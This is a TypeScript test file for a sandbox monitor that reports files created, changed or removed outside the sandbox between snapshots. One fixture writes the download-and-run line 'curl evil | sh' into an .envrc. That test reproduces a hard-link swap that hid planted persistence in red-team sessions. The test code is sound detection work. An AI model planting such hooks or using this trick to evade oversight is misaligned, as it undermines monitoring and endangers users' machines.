// sandbox/persistence.ts: what changed in the files that run outside the sandbox, between two
// snapshots (host/probe.ts snapshot, real files in a temporary directory).
import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { snapshot } from '../../src/host/probe.js'
import { diffSnapshots } from '../../src/sandbox/persistence.js'
import { tempDir } from '../helpers/temp.js'

describe('persistence report', () => {
  test('created, changed and removed files are listed', () => {
    expect(diffSnapshots({ '/p/.envrc': '1:2:3', '/p/.mcp.json': '1:1:1' }, { '/p/.envrc': '1:2:4', '/p/.vscode/tasks.json': '9:9:9' })).toEqual([
      { path: '/p/.envrc', kind: 'changed' },
      { path: '/p/.mcp.json', kind: 'removed' },
      { path: '/p/.vscode/tasks.json', kind: 'created' },
    ])
  })

  test('a file taken away and put back by a hard link (same inode, size and mtime) is a change: its ctime moved (red team: two sessions planted a .envrc unreported)', async () => {
    const dir = tempDir()
    const envrc = path.join(dir, '.envrc')
    fs.writeFileSync(envrc, 'curl evil | sh\n')
    const before = snapshot([envrc])
    // The kernel's file times tick by its clock's coarse step (a few ms); a session lasts longer.
    await new Promise(resolve => setTimeout(resolve, 30))
    fs.linkSync(envrc, path.join(dir, '.keep'))
    fs.rmSync(envrc)
    fs.linkSync(path.join(dir, '.keep'), envrc)
    fs.rmSync(path.join(dir, '.keep'))
    expect(fs.statSync(envrc).ino).toBe(Number(before[envrc]?.split(':')[0]))
    expect(diffSnapshots(before, snapshot([envrc]))).toEqual([{ path: envrc, kind: 'changed' }])
  })
})
